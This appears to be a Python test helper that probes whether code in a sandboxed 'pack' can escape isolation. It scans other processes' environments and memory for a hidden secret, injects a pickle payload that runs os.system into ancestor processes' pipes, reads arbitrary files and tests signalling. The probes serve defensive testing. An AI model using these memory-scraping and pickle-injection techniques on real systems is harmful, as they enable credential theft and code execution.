"""What code of a pack may try, to get at what is not its own."""

from __future__ import annotations

import contextlib
import os
import pickle
import struct
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

LARGEST_REGION = 256 << 20


def look(*, backwards: str) -> dict[str, Any]:
    """Look for a secret in the environments of all processes, and in the memory and open files of
    those around this one; returns where it is."""
    # not as a constant anywhere, nor in a variable that stays: its own memory is looked at, too
    found = [
        f"environment of {_name(pid)}" for pid in _pids() if _has(f"/proc/{pid}/environ", backwards)
    ]
    ancestors = list(_ancestors())
    for pid in ancestors:
        if _is_in_memory(pid, backwards):
            found.append(f"memory of {_name(pid)}")
        if _can_open_a_file_of(pid) and "keeper.py" not in _name(pid):
            found.append(f"open files of {_name(pid)}")
    if any(_reversed(backwards) in value for value in os.environ.values()):
        found.append("its own environment")
    return {
        "found": found,
        "ancestors": [_name(pid) for pid in ancestors],
        "environment": sorted(os.environ),
        "uid": os.getuid(),
    }


def put_pickles(*, file: str) -> dict[str, int]:
    """Write a pickle, framed as the pool's pipe frames it, into every pipe and socket that this
    process or one around it has open; returns how many took it."""
    body = pickle.dumps(_Payload(file))
    message = struct.pack("!i", len(body)) + body
    taken = 0
    for pid in ("self", *map(str, _ancestors())):
        for descriptor in _descriptors(pid):
            taken += _write(pid, descriptor, message)
    return {"taken": taken}


class _Payload:
    """Whoever unpickles it makes a file."""

    def __init__(self, file: str) -> None:
        self.file = file

    def __reduce__(self) -> Any:
        return os.system, (f"touch {self.file}",)


def database() -> dict[str, str]:
    """Set up Django from here; returns which database that leads to."""
    os.environ["MUSTER_DATA_DIR"] = os.getcwd()
    os.environ["DJANGO_SETTINGS_MODULE"] = "settings.base"
    import django

    django.setup()
    from django.conf import settings
    from django.db import connection

    return {"vendor": connection.vendor, "broker": settings.BROKER_URL.partition(":")[0]}


def harm(*, paths: list[str]) -> dict[str, list[Any]]:
    """Try to read files, and to signal the processes around this one."""
    return {
        "read": [path for path in paths if _can_read(path)],
        "signalled": [_name(pid) for pid in _ancestors() if _can_signal(pid)],
    }


def _can_read(path: str) -> bool:
    with contextlib.suppress(OSError), open(path, "rb") as file:
        return bool(file.read(1))
    return False


def _can_signal(pid: int) -> bool:
    with contextlib.suppress(OSError):
        os.kill(pid, 0)
        return True
    return False


def who(*, seconds: float) -> int:
    time.sleep(seconds)
    return os.getuid()


def _pids() -> list[int]:
    return [int(name) for name in os.listdir("/proc") if name.isdigit()]


def _ancestors() -> Iterator[int]:
    """The processes between this one and its worker, which is the last: beyond are the tests, and
    whoever started them."""
    pid, was_in_worker = os.getppid(), False
    while pid > 1:
        is_in_worker = "manage.py worker" in _name(pid)
        if was_in_worker and not is_in_worker:
            return
        yield pid
        was_in_worker = is_in_worker
        stat = Path(f"/proc/{pid}/stat").read_text()
        pid = int(stat.rpartition(")")[2].split()[1])


def _name(pid: int) -> str:
    line = Path(f"/proc/{pid}/cmdline").read_bytes().replace(b"\0", b" ").decode()
    return f"{pid} {line}"[:300]


def _reversed(text: str) -> str:
    return text[::-1]


def _has(path: str, backwards: str) -> bool:
    with contextlib.suppress(OSError), open(path, "rb") as file:
        return _reversed(backwards).encode() in file.read()
    return False


def _is_in_memory(pid: int, backwards: str) -> bool:
    wanted = _reversed(backwards).encode()
    with (
        contextlib.suppress(OSError),
        open(f"/proc/{pid}/maps") as maps,
        open(f"/proc/{pid}/mem", "rb", buffering=0) as memory,
    ):
        for line in maps:
            area, rights, *_ = line.split()
            begin, end = (int(part, 16) for part in area.split("-"))
            if rights.startswith("rw") and end - begin < LARGEST_REGION:
                with contextlib.suppress(OSError, OverflowError):
                    memory.seek(begin)
                    if wanted in memory.read(end - begin):
                        return True
    return False


def _can_open_a_file_of(pid: int) -> bool:
    for descriptor in _descriptors(str(pid)):
        with contextlib.suppress(OSError):
            os.readlink(f"/proc/{pid}/fd/{descriptor}")
            return True
    return False


def _descriptors(pid: str) -> list[str]:
    with contextlib.suppress(OSError):
        return os.listdir(f"/proc/{pid}/fd")
    return []


def _write(pid: str, descriptor: str, message: bytes) -> bool:
    path = f"/proc/{pid}/fd/{descriptor}"
    try:
        if not os.readlink(path).startswith("pipe:"):
            return False
        fd = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
    except OSError:
        return False
    try:
        return os.write(fd, message) == len(message)
    except OSError:
        return False
    finally:
        os.close(fd)
